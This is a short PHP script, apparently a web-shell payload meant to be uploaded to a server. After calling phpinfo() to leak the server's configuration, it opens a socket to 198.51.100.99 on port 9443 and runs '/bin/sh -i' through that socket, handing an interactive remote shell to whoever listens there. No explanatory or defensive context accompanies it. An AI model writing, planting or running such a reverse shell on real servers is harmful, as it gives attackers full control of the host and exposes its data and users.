<?php
phpinfo();
$sock = fsockopen("198.51.100.99", 9443);
exec("/bin/sh -i <&3 >&3 2>&3");
